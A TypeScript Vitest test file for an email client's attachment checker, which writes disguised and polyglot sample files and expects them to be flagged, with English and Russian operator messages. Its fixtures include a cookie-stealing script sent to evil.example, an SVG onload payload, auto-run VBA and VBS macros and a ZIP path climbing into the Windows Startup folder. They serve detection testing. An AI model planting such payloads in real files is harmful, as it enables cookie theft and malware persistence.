import { statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AttachmentRules, FileKind, FileProblem } from '../../common/domain/attachment';
import {
  type ContentVerdict,
  type PolicyMessageKey,
  checkFile,
  checkMessage,
  contentProblem,
  dialogAccept,
  matchesExtension,
  problemMessage,
  sortAttachments,
  totalMessages,
} from '../../common/attachment-policy';
import { translator } from '../../common/i18n';
import { configWith } from '../../main/config/load';
import { inspectFile } from '../../main/files/content-inspector';
import { BMP, DOC, DOCX, DOCX_PARTS, ELF, EXE, GIF, JPEG, PDF, PNG, RTF, WEBP, oleFile, zipOf } from '../support/sample-files';
import { tempDir } from '../support/temp-dir';

const MB = 1024 * 1024;
// The shipped defaults, read through the real config loader: this also checks that main's
// AttachmentRules fits the policy's own declaration of it.
const RULES: AttachmentRules = configWith({}).attachments;
const en = translator('en');
const ru = translator('ru');

/** Bytes that do not compress and, from a fixed seed, are the same every run. */
function noise(length: number): Buffer {
  const b = Buffer.alloc(length);
  let x = 0x2545f491;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    b[i] = x & 0xff;
  }
  return b;
}

// Root CLSID of a Windows Installer package ({000C1084-0000-0000-C000-000000000046}, bytes in file order).
const MSI_CLSID = '84100c0000000000c000000000000046';

/** MSI stores its tables as streams whose names are packed into U+3800–U+4840 (the msi.dll encoding), behind U+4840. */
function msiStreamName(table: string): string {
  const digit = (c: string) => '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._'.indexOf(c);
  let out = '\u4840';
  for (let i = 0; i < table.length; i += 2) {
    const first = digit(table[i]!);
    const second = i + 1 < table.length ? digit(table[i + 1]!) : -1;
    out += String.fromCharCode(second < 0 ? 0x4800 + first : 0x3800 + first + (second << 6));
  }
  return out;
}

const tmp = tempDir('postdesk-policy-');
const sample = (name: string): string => path.join(tmp.dir, name);

// The hostile and the honest files, each as real bytes on disk.
const SAMPLES: Record<string, Buffer | string> = {
  'photo.png': PNG,
  'photo.jpg': JPEG,
  'anim.gif': GIF,
  'pic.webp': WEBP,
  'scan.bmp': BMP,
  'invoice.pdf': PDF,
  // A UTF-8 byte order mark and blank lines before the header: every PDF reader skips them.
  'bom.pdf': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('\r\n  \n'), PDF]),
  // Some gateways leave a header line before the PDF: readers may skip it, but it is text first.
  'gateway.pdf': Buffer.concat([Buffer.from('X-Scanned-By: gateway 1.0\r\n'), PDF]),
  // HTML with "%PDF-" in a comment: a browser renders the page (and runs its script).
  'html-polyglot.pdf': `<!-- %PDF-1.4 -->\n<html><body><script>location='https://evil.example/'+document.cookie</script></body></html>\n${PDF.toString('latin1')}`,
  'svg-polyglot.pdf': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!-- %PDF-1.7 --></svg>`,
  // A PDF that is also a ZIP with a program in it (unzip tools open its tail).
  'zip-polyglot.pdf': zipOf([{ name: 'invoice.exe', content: EXE }], PDF),
  'letter.rtf': RTF,
  'old.doc': DOC,
  // Word's own macro storage: Macros/VBA with a module and the project stream.
  'macros.doc': oleFile({ '/WordDocument': Buffer.alloc(1024, 1), '/Macros/VBA/ThisDocument': 'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "cmd"\nEnd Sub', '/Macros/PROJECT': 'ID="{00000000-0000-0000-0000-000000000000}"' }),
  'book.xls': oleFile({ '/Workbook': Buffer.alloc(2048, 9), '/\u0005SummaryInformation': Buffer.alloc(64) }),
  'macro-book.xls': oleFile({ '/Workbook': Buffer.alloc(2048, 9), '/_VBA_PROJECT_CUR/VBA/Module1': 'Sub Auto_Open()' }),
  'setup.msi': oleFile({ [`/${msiStreamName('_Tables')}`]: Buffer.alloc(64), [`/${msiStreamName('Property')}`]: Buffer.alloc(64), '/\u0005SummaryInformation': Buffer.alloc(128) }, MSI_CLSID),
  'mail.msg': oleFile({ '/__substg1.0_0037001F': Buffer.from('Subject', 'utf16le'), '/__properties_version1.0': Buffer.alloc(32) }),
  'setup.exe': EXE,
  'true.elf': ELF,
  'notes.txt': 'Здравствуйте, прикладываю счет.\nС уважением, Анна\n',
  'mz-notes.txt': 'MZ-400 price list: 12 pcs.\n',
  'bm-notes.txt': 'BMW service: 2 cars, 14:00 and 15:30\n',
  'random.bin': noise(4096),
  'contract.docx': DOCX,
  'stored.docx': zipOf(DOCX_PARTS.map((e) => ({ ...e, store: true }))),
  // A thumbnail before the body pushes word/ far from the start: the central directory still lists it.
  'thumbnail-first.docx': zipOf([DOCX_PARTS[0]!, DOCX_PARTS[1]!, { name: 'docProps/thumbnail.jpeg', content: noise(400_000), store: true }, DOCX_PARTS[2]!]),
  'with-setup.docx': zipOf([...DOCX_PARTS, { name: 'word/media/setup.exe', content: EXE, store: true }]),
  'with-script.docx': zipOf([...DOCX_PARTS, { name: 'customXml/run.vbs', content: 'CreateObject("WScript.Shell").Run "calc"' }]),
  'trailing-dot.docx': zipOf([...DOCX_PARTS, { name: 'word/readme.txt.exe.', content: EXE }]),
  'macros.docx': zipOf([...DOCX_PARTS, { name: 'word/vbaProject.bin', content: oleFile({ '/VBA/ThisDocument': 'Sub AutoOpen()' }) }]),
  // Any ZIP with a word/ entry (and a program inside): no [Content_Types].xml, so no Office document.
  'word-folder.zip': zipOf([{ name: 'word/document.xml', content: '<w:document/>' }, { name: 'setup.exe', content: EXE }]),
  'climbing.zip': zipOf([{ name: '../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/run.bat', content: 'calc' }]),
  'book.xlsx': zipOf([DOCX_PARTS[0]!, { name: 'xl/workbook.xml', content: '<workbook/>' }]),
  'slides.pptx': zipOf([DOCX_PARTS[0]!, { name: 'ppt/presentation.xml', content: '<presentation/>' }]),
  'photos.zip': zipOf([{ name: 'readme.txt', content: 'Photos of the damaged parcel' }, { name: 'parcel.png', content: PNG, store: true }]),
  'pk-only.docx': Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(300, 7)]),
  // Right magic bytes, no header behind them.
  'magic-only.png': PNG.subarray(0, 8),
  'cut-ihdr.png': PNG.subarray(0, 20),
  'bad-crc.png': Buffer.concat([PNG.subarray(0, 29), Buffer.from([0, 0, 0, 0]), PNG.subarray(33)]),
  'no-frame.jpg': Buffer.concat([JPEG.subarray(0, 20), Buffer.from([0xff, 0xd9])]),
  'cut-header.bmp': BMP.subarray(0, 20),
  'cut.gif': GIF.subarray(0, 8),
};

beforeAll(() => {
  for (const [name, bytes] of Object.entries(SAMPLES)) writeFileSync(sample(name), bytes);
});

afterAll(() => tmp.cleanup());

/** The whole check for a file on disk, under the name the operator sees (it may differ from the sample's). */
async function checkOnDisk(file: string, name: string): Promise<FileProblem | null> {
  return checkFile({ name, size: statSync(sample(file)).size, content: await inspectFile(sample(file)) }, RULES);
}

/** What the operator reads beside the file, in English and in Russian. */
function hint(problem: FileProblem | null): [string, string] | null {
  if (!problem) return null;
  const message = problemMessage(problem);
  return [en(message.key, message.params), ru(message.key, message.params)];
}

describe('what a file really is, from its whole content', () => {
  it.each<[string, ContentVerdict]>([
    ['photo.png', { kind: 'png' }],
    ['photo.jpg', { kind: 'jpeg' }],
    ['anim.gif', { kind: 'gif' }],
    ['pic.webp', { kind: 'webp' }],
    ['scan.bmp', { kind: 'bmp' }],
    ['invoice.pdf', { kind: 'pdf' }],
    ['bom.pdf', { kind: 'pdf' }],
    ['gateway.pdf', { kind: 'text' }],
    ['html-polyglot.pdf', { kind: 'html' }],
    ['svg-polyglot.pdf', { kind: 'html' }],
    ['zip-polyglot.pdf', { kind: 'pdf', program: 'invoice.exe' }],
    ['letter.rtf', { kind: 'rtf' }],
    ['old.doc', { kind: 'doc' }],
    ['macros.doc', { kind: 'doc', macros: true }],
    ['book.xls', { kind: 'xls' }],
    ['macro-book.xls', { kind: 'xls', macros: true }],
    ['setup.msi', { kind: 'msi' }],
    ['mail.msg', { kind: 'msg' }],
    ['setup.exe', { kind: 'exe' }],
    ['true.elf', { kind: 'elf' }],
    ['notes.txt', { kind: 'text' }],
    ['mz-notes.txt', { kind: 'text' }],
    ['bm-notes.txt', { kind: 'text' }],
    ['random.bin', { kind: 'unknown' }],
    ['contract.docx', { kind: 'docx' }],
    ['stored.docx', { kind: 'docx' }],
    ['thumbnail-first.docx', { kind: 'docx' }],
    ['with-setup.docx', { kind: 'docx', program: 'word/media/setup.exe' }],
    ['with-script.docx', { kind: 'docx', program: 'customXml/run.vbs' }],
    ['trailing-dot.docx', { kind: 'docx', program: 'word/readme.txt.exe.' }],
    ['macros.docx', { kind: 'docx', macros: true }],
    ['word-folder.zip', { kind: 'zip', program: 'setup.exe' }],
    ['climbing.zip', { kind: 'zip', program: '../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/run.bat' }],
    ['book.xlsx', { kind: 'xlsx' }],
    ['slides.pptx', { kind: 'pptx' }],
    ['photos.zip', { kind: 'zip' }],
    ['pk-only.docx', { kind: 'unknown' }],
    ['magic-only.png', { kind: 'unknown' }],
    ['cut-ihdr.png', { kind: 'png', damaged: true }],
    ['bad-crc.png', { kind: 'png', damaged: true }],
    ['no-frame.jpg', { kind: 'jpeg', damaged: true }],
    ['cut-header.bmp', { kind: 'bmp', damaged: true }],
    ['cut.gif', { kind: 'gif', damaged: true }],
  ])('%s: %j', async (file, verdict) => {
    expect(await inspectFile(sample(file))).toEqual(verdict);
  });

  it('calls an empty file "unknown"', async () => {
    writeFileSync(sample('empty.pdf'), '');
    expect(await inspectFile(sample('empty.pdf'))).toEqual({ kind: 'unknown' });
  });

  it('names an executable first even when it also carries a PDF header', async () => {
    writeFileSync(sample('exe-polyglot.pdf'), Buffer.concat([EXE.subarray(0, 512), PDF]));
    expect(await inspectFile(sample('exe-polyglot.pdf'))).toEqual({ kind: 'exe' });
  });

  it('takes up to 1 KB of white space before %PDF-, not more', async () => {
    writeFileSync(sample('spaced.pdf'), Buffer.concat([Buffer.alloc(1024, 0x20), PDF]));
    writeFileSync(sample('too-spaced.pdf'), Buffer.concat([Buffer.alloc(1025, 0x20), PDF]));
    expect(await inspectFile(sample('spaced.pdf'))).toEqual({ kind: 'pdf' });
    expect(await inspectFile(sample('too-spaced.pdf'))).toEqual({ kind: 'text' });
  });
});

describe('checkFile on real files', () => {
  it.each([
    ['photo.png', 'photo.png'],
    ['photo.jpg', 'photo.jpg'],
    ['photo.jpg', 'photo.jpeg'],
    ['scan.bmp', 'scan.bmp'],
    ['invoice.pdf', 'invoice.pdf'],
    ['bom.pdf', 'bom.pdf'],
    ['letter.rtf', 'letter.rtf'],
    ['old.doc', 'old.doc'],
    ['contract.docx', 'contract.docx'],
    ['stored.docx', 'stored.docx'],
    ['thumbnail-first.docx', 'thumbnail-first.docx'],
  ])('accepts %s attached as %s', async (file, name) => {
    expect(await checkOnDisk(file, name)).toBeNull();
  });

  it('accepts RTF content in a .doc, as Word opens it', async () => {
    expect(await checkOnDisk('letter.rtf', 'letter.doc')).toBeNull();
  });

  // Each polyglot of the issue, and the others above, with what the operator reads beside it.
  it.each<[string, string, string, FileProblem, string, string]>([
    ['HTML with %PDF- in a comment', 'html-polyglot.pdf', 'invoice.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'html' }, 'This .pdf is really an HTML page', 'Файл .pdf на самом деле — веб-страница (HTML)'],
    ['SVG with a script and %PDF- in a comment', 'svg-polyglot.pdf', 'invoice.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'html' }, 'This .pdf is really an HTML page', 'Файл .pdf на самом деле — веб-страница (HTML)'],
    ['a line of text before the PDF header', 'gateway.pdf', 'scan.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'text' }, 'This .pdf is really plain text', 'Файл .pdf на самом деле — простой текст'],
    ['a PDF that is also a ZIP with a program', 'zip-polyglot.pdf', 'invoice.pdf', { code: 'contains_program', extension: 'pdf', entry: 'invoice.exe' }, 'This .pdf contains a program (invoice.exe)', 'Внутри файла .pdf — программа (invoice.exe)'],
    ['a ZIP with a word/ entry and an .exe inside', 'word-folder.zip', 'contract.docx', { code: 'content_mismatch', extension: 'docx', actual: 'zip' }, 'This .docx is really ZIP', 'Файл .docx на самом деле — ZIP'],
    ['a real .docx with an .exe inside', 'with-setup.docx', 'contract.docx', { code: 'contains_program', extension: 'docx', entry: 'word/media/setup.exe' }, 'This .docx contains a program (word/media/setup.exe)', 'Внутри файла .docx — программа (word/media/setup.exe)'],
    ['a .docx with a script inside', 'with-script.docx', 'contract.docx', { code: 'contains_program', extension: 'docx', entry: 'customXml/run.vbs' }, 'This .docx contains a program (customXml/run.vbs)', 'Внутри файла .docx — программа (customXml/run.vbs)'],
    ['a .docx with a program hidden behind a trailing dot', 'trailing-dot.docx', 'contract.docx', { code: 'contains_program', extension: 'docx', entry: 'word/readme.txt.exe.' }, 'This .docx contains a program (word/readme.txt.exe.)', 'Внутри файла .docx — программа (word/readme.txt.exe.)'],
    ['a .docx with vbaProject.bin (a .docm renamed)', 'macros.docx', 'contract.docx', { code: 'macros', extension: 'docx' }, 'This .docx contains macros', 'В файле .docx есть макросы'],
    ['an MSI installer named .doc', 'setup.msi', 'contract.doc', { code: 'content_mismatch', extension: 'doc', actual: 'msi' }, 'This .doc is really a program (MSI)', 'Файл .doc на самом деле — программа (MSI)'],
    ['an Excel workbook named .doc', 'book.xls', 'report.doc', { code: 'content_mismatch', extension: 'doc', actual: 'xls' }, 'This .doc is really XLS', 'Файл .doc на самом деле — XLS'],
    ['an Outlook message named .doc', 'mail.msg', 'report.doc', { code: 'content_mismatch', extension: 'doc', actual: 'msg' }, 'This .doc is really MSG', 'Файл .doc на самом деле — MSG'],
    ['a .doc with a Macros storage', 'macros.doc', 'contract.doc', { code: 'macros', extension: 'doc' }, 'This .doc contains macros', 'В файле .doc есть макросы'],
    ['a text file named .rtf', 'notes.txt', 'letter.rtf', { code: 'content_mismatch', extension: 'rtf', actual: 'text' }, 'This .rtf is really plain text', 'Файл .rtf на самом деле — простой текст'],
    ['a PNG of magic bytes only', 'magic-only.png', 'photo.png', { code: 'content_mismatch', extension: 'png', actual: 'unknown' }, 'The content of this file is not .png', 'Содержимое файла не соответствует формату .png'],
    ['a PNG cut inside its IHDR', 'cut-ihdr.png', 'photo.png', { code: 'damaged', extension: 'png' }, 'This .png is damaged: its picture size cannot be read', 'Файл .png повреждён: не читается размер изображения'],
    ['a PNG whose IHDR checksum is wrong', 'bad-crc.png', 'photo.png', { code: 'damaged', extension: 'png' }, 'This .png is damaged: its picture size cannot be read', 'Файл .png повреждён: не читается размер изображения'],
    ['a JPEG without a frame header', 'no-frame.jpg', 'photo.jpg', { code: 'damaged', extension: 'jpg' }, 'This .jpg is damaged: its picture size cannot be read', 'Файл .jpg повреждён: не читается размер изображения'],
    ['a BMP cut inside its header', 'cut-header.bmp', 'scan.bmp', { code: 'damaged', extension: 'bmp' }, 'This .bmp is damaged: its picture size cannot be read', 'Файл .bmp повреждён: не читается размер изображения'],
    ['a .pdf that is really an exe', 'setup.exe', 'invoice.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'exe' }, 'This .pdf is really a program (EXE)', 'Файл .pdf на самом деле — программа (EXE)'],
    ['a .pdf that is really an ELF program', 'true.elf', 'invoice.pdf', { code: 'content_mismatch', extension: 'pdf', actual: 'elf' }, 'This .pdf is really a program (ELF)', 'Файл .pdf на самом деле — программа (ELF)'],
    ['a .jpg that is really a PDF', 'invoice.pdf', 'photo.jpg', { code: 'content_mismatch', extension: 'jpg', actual: 'pdf' }, 'This .jpg is really PDF', 'Файл .jpg на самом деле — PDF'],
    ['a .png that is really a JPEG', 'photo.jpg', 'photo.png', { code: 'content_mismatch', extension: 'png', actual: 'jpeg' }, 'This .png is really JPEG', 'Файл .png на самом деле — JPEG'],
    ['a .docx that is a plain zip', 'photos.zip', 'contract.docx', { code: 'content_mismatch', extension: 'docx', actual: 'zip' }, 'This .docx is really ZIP', 'Файл .docx на самом деле — ZIP'],
    ['a .docx that is really a .doc', 'old.doc', 'contract.docx', { code: 'content_mismatch', extension: 'docx', actual: 'doc' }, 'This .docx is really DOC', 'Файл .docx на самом деле — DOC'],
    ['a .doc that is really a .docx', 'contract.docx', 'old.doc', { code: 'content_mismatch', extension: 'doc', actual: 'docx' }, 'This .doc is really DOCX', 'Файл .doc на самом деле — DOCX'],
    ['a .docx of a ZIP signature and nothing else', 'pk-only.docx', 'report.docx', { code: 'content_mismatch', extension: 'docx', actual: 'unknown' }, 'The content of this file is not .docx', 'Содержимое файла не соответствует формату .docx'],
    ['a .bmp of unknown bytes', 'random.bin', 'scan.bmp', { code: 'content_mismatch', extension: 'bmp', actual: 'unknown' }, 'The content of this file is not .bmp', 'Содержимое файла не соответствует формату .bmp'],
  ])('refuses %s', async (_label, file, name, problem, english, russian) => {
    const found = await checkOnDisk(file, name);
    expect(found).toEqual(problem);
    expect(hint(found)).toEqual([english, russian]);
  });
});

describe('contentProblem, the part incoming files are warned by', () => {
  it('says nothing of a file that is what its name says, whatever the allowed formats', async () => {
    expect(contentProblem('setup.msi', await inspectFile(sample('setup.msi')))).toBeNull();
    expect(contentProblem('photos.zip', await inspectFile(sample('photos.zip')))).toBeNull();
  });

  it('warns of an archive with a program in it, and of an .xls with macros', async () => {
    expect(contentProblem('photos.zip', await inspectFile(sample('word-folder.zip')))).toEqual({ code: 'contains_program', extension: 'zip', entry: 'setup.exe' });
    expect(contentProblem('book.xls', await inspectFile(sample('macro-book.xls')))).toEqual({ code: 'macros', extension: 'xls' });
  });

  it('speaks of a damaged header only where the name promises that image', () => {
    expect(contentProblem('notes.txt', { kind: 'png', damaged: true })).toBeNull();
    expect(contentProblem('photo.png', { kind: 'png', damaged: true })).toEqual({ code: 'damaged', extension: 'png' });
  });

  it('names a format file-type knows by its own name', () => {
    const problem = contentProblem('scan.pdf', { kind: 'other', format: 'mp4' });
    expect(problem).toEqual({ code: 'content_mismatch', extension: 'pdf', actual: 'other', format: 'mp4' });
    expect(hint(problem)).toEqual(['This .pdf is really MP4', 'Файл .pdf на самом деле — MP4']);
    expect(hint(contentProblem('scan.pdf', { kind: 'program', format: 'jar' }))).toEqual(['This .pdf is really a program (JAR)', 'Файл .pdf на самом деле — программа (JAR)']);
  });
});

describe('matchesExtension', () => {
  it.each<[string, FileKind, boolean]>([
    ['jpeg', 'jpeg', true],
    ['jpg', 'jpeg', true],
    ['JPG', 'jpeg', true],
    ['jpg', 'png', false],
    ['png', 'png', true],
    ['bmp', 'bmp', true],
    ['pdf', 'pdf', true],
    ['pdf', 'text', false],
    ['pdf', 'html', false],
    ['doc', 'doc', true],
    ['doc', 'rtf', true],
    ['doc', 'xls', false],
    ['doc', 'msi', false],
    ['doc', 'ole', false],
    ['rtf', 'rtf', true],
    ['rtf', 'doc', false],
    ['docx', 'docx', true],
    ['docx', 'zip', false],
    ['docx', 'xlsx', false],
    // Extensions the table does not know take anything but a program.
    ['txt', 'text', true],
    ['txt', 'unknown', true],
    ['odt', 'zip', true],
    ['txt', 'exe', false],
    ['odt', 'elf', false],
    ['txt', 'msi', false],
    ['txt', 'program', false],
  ])('.%s with %s content: %s', (extension, kind, expected) => {
    expect(matchesExtension(extension, { kind })).toBe(expected);
  });
});

describe('checkFile', () => {
  const pdf: ContentVerdict = { kind: 'pdf' };

  it('refuses a format the config does not allow, naming the allowed ones', () => {
    expect(checkFile({ name: 'archive.zip', size: 10, content: { kind: 'zip' } }, RULES)).toEqual({
      code: 'format_not_allowed',
      extension: 'zip',
      allowed: ['jpeg', 'jpg', 'png', 'pdf', 'doc', 'docx', 'rtf', 'bmp'],
    });
  });

  it.each(['README', '.pdf', 'scan.'])('counts %j as having no extension, which is not allowed', (name) => {
    expect(checkFile({ name, size: 10, content: pdf }, RULES)).toMatchObject({ code: 'format_not_allowed', extension: '' });
  });

  it('reads the extension case-insensitively', () => {
    expect(checkFile({ name: 'SCAN.PDF', size: 10, content: pdf }, RULES)).toBeNull();
    expect(checkFile({ name: 'Photo.JpEg', size: 10, content: { kind: 'jpeg' } }, RULES)).toBeNull();
  });

  it('takes allowed formats in any case, as written by hand', () => {
    expect(checkFile({ name: 'a.pdf', size: 10, content: pdf }, { allowedFormats: ['PDF'], maxFileSize: 100 })).toBeNull();
  });

  it('allows a file of exactly the per-file limit and refuses one byte more', () => {
    expect(checkFile({ name: 'a.pdf', size: 30 * MB, content: pdf }, RULES)).toBeNull();
    expect(checkFile({ name: 'a.pdf', size: 30 * MB + 1, content: pdf }, RULES)).toEqual({ code: 'too_large', size: 30 * MB + 1, limit: 30 * MB });
  });

  it('refuses an empty file', () => {
    expect(checkFile({ name: 'a.pdf', size: 0, content: { kind: 'unknown' } }, RULES)).toEqual({ code: 'empty' });
  });

  it('refuses a file that could not be read, with the reason', () => {
    expect(checkFile({ name: 'a.pdf', size: 10, content: null, readError: 'EACCES' }, RULES)).toEqual({ code: 'unreadable', reason: 'EACCES' });
    expect(checkFile({ name: 'a.pdf', size: 10, content: null }, RULES)).toEqual({ code: 'unreadable', reason: 'unknown error' });
  });

  // Each row has every problem of the rows below it too, so each row pins one step of the order.
  const infected = { status: 'infected', signature: 'Eicar-Test-Signature' } as const;
  const away = { status: 'not_scanned', reason: 'clamd at 127.0.0.1:3310: connection refused' } as const;
  it.each<[string, Parameters<typeof checkFile>[0], FileProblem['code']]>([
    ['unreadable before empty', { name: 'a.exe', size: 0, content: null, scan: infected }, 'unreadable'],
    ['empty before a virus', { name: 'a.exe', size: 0, content: { kind: 'exe' }, scan: infected }, 'empty'],
    ['a virus before the format', { name: 'a.exe', size: 40 * MB, content: { kind: 'exe' }, scan: infected }, 'infected'],
    ['format before content and size', { name: 'a.exe', size: 40 * MB, content: { kind: 'exe' }, scan: away }, 'format_not_allowed'],
    ['content before size', { name: 'a.pdf', size: 40 * MB, content: { kind: 'exe' }, scan: away }, 'content_mismatch'],
    ['a program inside before macros', { name: 'a.docx', size: 40 * MB, content: { kind: 'docx', program: 'x.exe', macros: true }, scan: away }, 'contains_program'],
    ['macros before size', { name: 'a.docx', size: 40 * MB, content: { kind: 'docx', macros: true }, scan: away }, 'macros'],
    ['a damaged header before size', { name: 'a.png', size: 40 * MB, content: { kind: 'png', damaged: true }, scan: away }, 'damaged'],
    ['size before the unavailable scan', { name: 'a.pdf', size: 40 * MB, content: pdf, scan: away }, 'too_large'],
    ['the unavailable scan last', { name: 'a.pdf', size: 10, content: pdf, scan: away }, 'scan_unavailable'],
  ])('precedence: %s', (_label, file, code) => {
    expect(checkFile(file, RULES)?.code).toBe(code);
  });

  it('passes a clean scan and no scanner alike', () => {
    expect(checkFile({ name: 'a.pdf', size: 10, content: pdf, scan: { status: 'clean' } }, RULES)).toBeNull();
    expect(checkFile({ name: 'a.pdf', size: 10, content: pdf, scan: { status: 'off' } }, RULES)).toBeNull();
  });
});

describe('checkMessage', () => {
  const file = (size: number, problem: FileProblem | null = null) => ({ size, problem });
  const tooLarge: FileProblem = { code: 'too_large', size: 40 * MB, limit: 30 * MB };

  it('allows valid files of exactly the total limit', () => {
    expect(checkMessage({ text: '', files: [file(10 * MB), file(20 * MB)] }, RULES)).toEqual({
      canSend: true,
      invalidCount: 0,
      validTotal: 30 * MB,
      overBy: 0,
      empty: false,
    });
  });

  it('refuses one byte over the total limit and says by how much', () => {
    expect(checkMessage({ text: 'Hi', files: [file(10 * MB), file(20 * MB + 1)] }, RULES)).toMatchObject({ canSend: false, overBy: 1 });
  });

  it('counts only valid files towards the total, but an invalid file blocks sending until removed', () => {
    expect(checkMessage({ text: 'Hi', files: [file(30 * MB), file(40 * MB, tooLarge)] }, RULES)).toEqual({
      canSend: false,
      invalidCount: 1,
      validTotal: 30 * MB,
      overBy: 0,
      empty: false,
    });
  });

  it.each([
    ['text only', 'Здравствуйте!', [], true, false],
    ['attachments only', '', [file(100)], true, false],
    ['text and attachments', 'See attached', [file(100)], true, false],
    ['neither', '', [], false, true],
    ['only whitespace', ' \n\t\u00a0', [], false, true],
    ['only an invalid file', '', [file(0, { code: 'empty' })], false, false],
  ])('%s: canSend %s', (_label, text, files, canSend, empty) => {
    expect(checkMessage({ text, files }, RULES)).toMatchObject({ canSend, empty });
  });
});

describe('sortAttachments', () => {
  const bad: FileProblem = { code: 'empty' };
  // name, problem, attachedAt, seq — in the order they were attached, in three batches.
  const attached = [
    { name: 'first.pdf', problem: null, attachedAt: 1000, seq: 1 },
    { name: 'first-bad.exe', problem: bad, attachedAt: 1000, seq: 2 },
    { name: 'batch2-a.png', problem: null, attachedAt: 2000, seq: 3 },
    { name: 'batch2-b.png', problem: null, attachedAt: 2000, seq: 4 },
    { name: 'batch2-bad-a.doc', problem: bad, attachedAt: 2000, seq: 5 },
    { name: 'batch2-bad-b.doc', problem: bad, attachedAt: 2000, seq: 6 },
    { name: 'last.jpg', problem: null, attachedAt: 3000, seq: 7 },
  ];

  it.each([
    [1, 'batch2-bad-b.doc', 'invalid, newest batch of the invalid, later in the batch'],
    [2, 'batch2-bad-a.doc', 'invalid, same batch, earlier'],
    [3, 'first-bad.exe', 'invalid, oldest'],
    [4, 'last.jpg', 'valid, newest'],
    [5, 'batch2-b.png', 'valid, second batch, later in the batch'],
    [6, 'batch2-a.png', 'valid, second batch, earlier'],
    [7, 'first.pdf', 'valid, oldest'],
  ])('position %i: %s (%s)', (position, name) => {
    expect(sortAttachments(attached)[position - 1]?.name).toBe(name);
  });

  it('leaves the input as it was', () => {
    const before = attached.map((a) => a.name);
    sortAttachments(attached);
    expect(attached.map((a) => a.name)).toEqual(before);
  });
});

describe('dialogAccept', () => {
  it('lists exactly the configured extensions', () => {
    expect(dialogAccept(RULES)).toBe('.jpeg,.jpg,.png,.pdf,.doc,.docx,.rtf,.bmp');
    expect(dialogAccept({ allowedFormats: ['pdf'] })).toBe('.pdf');
  });

  it('writes each once, in lower case', () => {
    expect(dialogAccept({ allowedFormats: ['pdf', 'PDF', 'txt'] })).toBe('.pdf,.txt');
  });
});

describe('problemMessage', () => {
  it.each<[FileProblem, PolicyMessageKey, Record<string, string | number>, string]>([
    [
      { code: 'format_not_allowed', extension: 'zip', allowed: ['pdf', 'jpg'] },
      'attachments.problem.format',
      { extension: 'zip', allowed: '.pdf, .jpg' },
      'Format .zip is not allowed. Allowed: .pdf, .jpg',
    ],
    [
      { code: 'format_not_allowed', extension: '', allowed: ['pdf'] },
      'attachments.problem.noExtension',
      { allowed: '.pdf' },
      'Files without an extension are not allowed. Allowed: .pdf',
    ],
    [
      { code: 'too_large', size: Math.round(34.2 * MB), limit: 30 * MB },
      'attachments.problem.tooLarge',
      { size: '34.2 MB', limit: '30 MB' },
      '34.2 MB — the limit for one file is 30 MB',
    ],
    [{ code: 'empty' }, 'attachments.problem.empty', {}, 'This file is empty'],
    [
      { code: 'content_mismatch', extension: 'jpg', actual: 'pdf' },
      'attachments.problem.mismatch',
      { extension: 'jpg', actual: 'PDF' },
      'This .jpg is really PDF',
    ],
    [
      { code: 'content_mismatch', extension: 'pdf', actual: 'exe' },
      'attachments.problem.executable',
      { extension: 'pdf', actual: 'EXE' },
      'This .pdf is really a program (EXE)',
    ],
    [
      { code: 'infected', signature: 'Eicar-Test-Signature' },
      'attachments.problem.infected',
      { signature: 'Eicar-Test-Signature' },
      'A virus was found in this file: Eicar-Test-Signature',
    ],
    [
      { code: 'scan_unavailable', reason: 'clamd at 127.0.0.1:3310: connection refused' },
      'attachments.problem.scanUnavailable',
      { reason: 'clamd at 127.0.0.1:3310: connection refused' },
      'Not checked for viruses yet: the virus check is unavailable (clamd at 127.0.0.1:3310: connection refused)',
    ],
    [
      { code: 'content_mismatch', extension: 'png', actual: 'unknown' },
      'attachments.problem.unrecognized',
      { extension: 'png', actual: '?' },
      'The content of this file is not .png',
    ],
    [
      { code: 'unreadable', reason: 'EACCES' },
      'attachments.problem.unreadable',
      { reason: 'EACCES' },
      'The file could not be read: EACCES',
    ],
  ])('%j → %s', (problem, key, params, english) => {
    const message = problemMessage(problem);
    expect(message).toEqual({ key, params });
    expect(en(message.key, message.params)).toBe(english);
    // Every placeholder of the Russian text is filled too.
    expect(ru(message.key, message.params)).not.toMatch(/\{\w+\}/);
  });

  it('speaks Russian in the product words', () => {
    const message = problemMessage({ code: 'format_not_allowed', extension: 'exe', allowed: ['pdf', 'doc'] });
    expect(ru(message.key, message.params)).toBe('Формат .exe не разрешен. Разрешены: .pdf, .doc');
  });

  it('gives the meter always and the over-limit hint only when over', () => {
    const within = totalMessages({ validTotal: 12 * MB, overBy: 0 }, RULES);
    expect(en(within.meter.key, within.meter.params)).toBe('12 MB of 30 MB');
    expect(within.over).toBeNull();
    const over = totalMessages({ validTotal: 32.5 * MB, overBy: 2.5 * MB }, RULES);
    expect(over.over).not.toBeNull();
    expect(en(over.over!.key, over.over!.params)).toBe('The files are 2.5 MB over the limit of 30 MB. Remove some files.');
    const overRu = totalMessages({ validTotal: 32.5 * MB, overBy: 2.5 * MB }, RULES, 'ru');
    expect(ru(overRu.meter.key, overRu.meter.params)).toBe('32,5 МБ из 30 МБ');
  });
});
